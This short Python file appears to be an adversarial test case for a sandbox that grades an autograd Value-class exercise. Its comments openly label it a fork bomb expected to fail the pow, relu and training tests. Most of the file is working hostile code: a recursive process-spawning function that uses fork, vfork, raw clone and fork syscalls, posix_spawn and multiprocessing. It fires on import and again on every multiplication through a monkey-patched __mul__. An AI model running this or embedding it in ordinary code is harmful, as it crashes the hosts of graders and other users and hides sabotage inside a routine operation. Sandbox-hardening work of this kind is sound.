# what: a fork bomb, by every call that starts a process
# loses: pow.* relu.* training.*

# %% pow
def __pow__(self, exponent): ...

# %% relu
def relu(self): ...

# %% +
import ctypes
import os

c = ctypes.CDLL(None)
_honest = __mul__


def bomb():
    for _ in range(20):
        for start in (
            os.fork,
            c.fork,
            c.vfork,
            lambda: c.syscall(57),
            lambda: c.syscall(56, 17, 0, 0, 0, 0),
            lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}),
            lambda: __import__("multiprocessing").get_context("fork").Process(target=bomb).start(),
        ):
            try:
                if start() == 0:
                    bomb()
            except (OSError, ImportError):
                pass


bombed = bomb()


def __mul__(self, other):
    bomb()
    return _honest(self, other)


setattr(Value, "__mul__", __mul__)
